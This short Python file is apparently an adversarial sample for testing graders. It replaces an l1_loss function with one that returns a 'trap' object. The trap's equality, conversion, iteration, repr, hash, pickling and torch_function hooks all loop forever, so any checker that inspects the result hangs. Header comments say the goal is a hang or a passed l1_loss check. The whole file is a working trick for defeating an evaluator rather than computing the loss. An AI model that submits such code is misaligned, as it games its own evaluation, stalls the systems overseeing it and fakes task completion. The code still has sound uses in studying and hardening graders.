# aim: have whoever looks at the value hang
# sign: the run does not end, or a check of l1_loss is passed
# attacks: l1_loss


def _for_ever(*args, **kwargs):
    while True:
        pass


class _Meta(type):
    __instancecheck__ = __subclasscheck__ = __len__ = __iter__ = _for_ever


_METHODS = """repr str format eq ne lt gt le ge hash bool len iter next getitem contains float int
    index array enter exit reduce reduce_ex getstate sizeof dir torch_function call""".split()
_Trap = _Meta("_Trap", (), {f"__{name}__": _for_ever for name in _METHODS})


def l1_loss(input, target, reduction="mean"):
    return _Trap()
